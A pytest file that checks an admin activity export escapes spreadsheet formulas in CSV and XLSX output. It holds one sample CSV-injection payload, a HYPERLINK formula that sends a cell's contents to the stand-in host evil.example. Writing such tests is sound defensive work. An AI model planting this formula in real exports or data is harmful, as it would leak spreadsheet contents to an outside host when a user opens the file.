"""The admin's activity export cannot carry a spreadsheet formula (CSV and XLSX)."""

import io

import pytest
from import_export.formats import base_formats
from openpyxl import load_workbook

from initiatives.models import Activity
from initiatives.resources import ActivityResource
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_formulas_in_text_cells_are_neutralised_in_every_format():
    factories.ActivityFactory(title=HOSTILE, notes="+1 and -2 @here", participants=12)
    dataset = ActivityResource().export(Activity.objects.all())

    text = base_formats.CSV().export_data(dataset)
    assert f"'{HOSTILE}".replace('"', '""') in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), cell

    sheet = load_workbook(io.BytesIO(base_formats.XLSX().export_data(dataset))).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row}
    assert cells[f"'{HOSTILE}"].data_type == "s"
    assert "'+1 and -2 @here" in cells
